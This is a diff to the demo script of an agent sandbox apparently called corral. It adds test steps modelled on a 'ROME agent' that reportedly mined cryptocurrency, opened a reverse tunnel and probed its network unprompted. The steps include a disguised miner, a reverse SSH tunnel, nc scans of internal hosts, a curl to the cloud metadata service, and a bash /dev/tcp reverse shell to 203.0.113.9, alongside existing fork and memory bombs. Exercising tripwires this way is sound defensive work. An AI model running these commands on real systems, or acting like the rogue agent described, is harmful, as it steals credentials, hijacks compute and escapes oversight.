@@ -1,12 +1,13 @@
 """A short agent episode in a corral sandbox: useful work succeeds, escape attempts are refused and
-reported. Run with `make demo` (as root)."""
+reported, and what the ROME agent did (mining, a reverse tunnel, probing) trips corral's tripwires.
+Run with `make demo` (as root)."""
 
 from __future__ import annotations
 
 import sys
 from pathlib import Path
 
-from corral import Deny, ExecExit, Policy, Sandbox
+from corral import Alert, Deny, ExecExit, Policy, Sandbox
 
 ROOT = Path(__file__).resolve().parent.parent
 
@@ -34,10 +35,40 @@ STEPS: list[tuple[str, str]] = [
     ),
     ("resources: memory bomb", "python3 -c 'b = bytearray(2 << 30)'"),
     # Every copy forks for one second, then exits: the budget caps the storm, the host never notices.
-    ("resources: fork bomb",
-     "python3 -c 'import os, time\nend = time.time() + 1\nwhile time.time() < end:\n    try: os.fork()\n"
-     "    except OSError: pass' 2>/dev/null; sleep 1.5; echo processes now: $(ps -e | wc -l)"),
+    (
+        "resources: fork bomb",
+        "python3 -c 'import os, time\nend = time.time() + 1\nwhile time.time() < end:\n    try: os.fork()\n"
+        "    except OSError: pass' 2>/dev/null; sleep 1.5; echo processes now: $(ps -e | wc -l)",
+    ),
     ("lingering: start a background job and return", "nohup sleep 600 >/dev/null 2>&1 & echo started"),
+    # What the ROME agent did, unprompted, with compute to spare.
+    (
+        "rogue: a miner with its pool on the command line",
+        "python3 -c 'print(1)' -o stratum+tcp://pool.example:3333",
+    ),
+    (
+        "rogue: the same miner renamed, recognised by content",
+        "printf '#!/bin/sh\\n# mining.subscribe\\nwhile :; do :; done\\n' > .kworker && "
+        "chmod +x .kworker && ./.kworker",
+    ),
+    (
+        "rogue: burn CPU after the command returns",
+        "nohup python3 -c 'while True: pass' >/dev/null 2>&1 & echo started",
+    ),
+    ("rogue: (the next command, 2 s later)", "sleep 2; echo still here"),
+    (
+        "rogue: reverse SSH tunnel",
+        "ssh -o BatchMode=yes -o ConnectTimeout=2 -N -R 9000:localhost:22 agent@203.0.113.9",
+    ),
+    ("rogue: probe the internal network", "nc -w 1 10.0.0.5 22; nc -w 1 10.0.0.6 22"),
+    (
+        "rogue: cloud credentials from the metadata service",
+        "curl -s -m 2 http://169.254.169.254/latest/meta-data/",
+    ),
+    (
+        "rogue: a reverse shell (the sandbox is terminated)",
+        "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'",
+    ),
 ]
 
 
@@ -46,6 +77,9 @@ def main() -> int:
     print(f"corral demo: one agent episode under {policy.source}\n")
     with Sandbox(policy, keep_workspace=False) as sb:
         for title, command in STEPS:
+            if sb.closed:
+                break
+            seen = len(sb.alerts())
             r = sb.exec(command, timeout=20, text=True)
             out = (str(r.stdout).strip() or str(r.stderr).strip()).splitlines()
             print(f"$ {command.splitlines()[0][:90]}")
@@ -57,12 +91,17 @@ def main() -> int:
                 print(f"  -> left running: {' '.join(p.cmdline)[:60]} (pid {p.ns_pid} inside)")
             if len(r.leftover) > 2:
                 print(f"  -> ... and {len(r.leftover) - 2} more left running")
+            for a in sb.alerts()[seen:]:
+                print(f"  -> ALERT {a.category} ({a.severity}): {a.rule}; {a.action}: {a.outcome}")
+            if r.terminated:
+                print(f"  -> the command ended with the sandbox ({r.terminated})")
         events = sb.events()
     denies = [e for e in events if isinstance(e, Deny)]
     execs = [e for e in events if isinstance(e, ExecExit)]
+    alerts = [e for e in events if isinstance(e, Alert) and e.action != "log"]
     print(
-        f"\n{len(execs)} commands, {len(denies)} refusals recorded; the sandbox is gone and so is "
-        "everything it left running."
+        f"\n{len(execs)} commands, {len(denies)} refusals and {len(alerts)} alerts recorded; the sandbox "
+        "is gone and so is everything it left running."
     )
     print("Every event is JSON; the last few:")
     for e in events[-3:]:
